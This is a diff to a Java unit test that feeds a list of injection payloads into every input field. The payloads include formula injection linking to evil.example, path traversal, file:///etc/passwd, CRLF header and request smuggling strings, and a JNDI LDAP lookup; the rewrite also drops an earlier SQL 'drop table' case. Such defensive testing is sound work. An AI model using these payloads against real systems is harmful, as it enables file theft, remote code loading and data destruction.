@@ -27,33 +27,15 @@ import org.junit.jupiter.api.io.TempDir;
 /** Formulas, paths and headers in every field that rooms, sheets and vendors bring, in one run. */
 class InjectionTest {
   /** What stands in every field, one after the other. */
-  private static final List<String> TRICKS = List.of(
-      "=HYPERLINK(\"http://evil.example\")",
-      "+1+1",
-      "-2+3",
-      "@SUM(A1)",
-      "\t=1",
-      "\r=1",
-      "../../../escaped",
-      "..\\..\\escaped",
-      "/tmp/escaped",
-      "C:\\escaped",
-      "file:///etc/passwd",
-      "a/../../escaped",
-      "NUL",
-      "COM1.png",
-      "aux",
-      ".",
-      "..",
-      "~",
-      "x".repeat(5_000),
-      "a\u202Egnp.exe",
-      "x\r\nX-Injected: yes\r\n\r\n",
-      "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /",
-      "%0d%0aX-Injected:%20yes",
-      "\u010D\u010AX-Injected: yes",
-      "${jndi:ldap://evil.example/a}",
-      "'; drop table render_ledger; --");
+  private static final List<String> TRICKS =
+      List.of(("=HYPERLINK(\"http://evil.example\")§+1+1§-2+3§@SUM(A1)§\t=1§\r=1§../../../escaped§"
+              + "..\\..\\escaped§/tmp/escaped§C:\\escaped§file:///etc/passwd§a/../../escaped§NUL§"
+              + "COM1.png§aux§.§..§~§a\u202Egnp.exe§x\r\nX-Injected: yes\r\n\r\n§"
+              + "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /§%0d%0aX-Injected:%20yes§"
+              + "\u010D\u010AX-Injected: yes§${jndi:ldap://evil.example/a}"
+              + "§"
+              + "x".repeat(5_000))
+          .split("§", -1));
 
   private static final List<String> OF_A_POST =
       List.of("accept", "content-length", "content-type", "host", "user-agent");
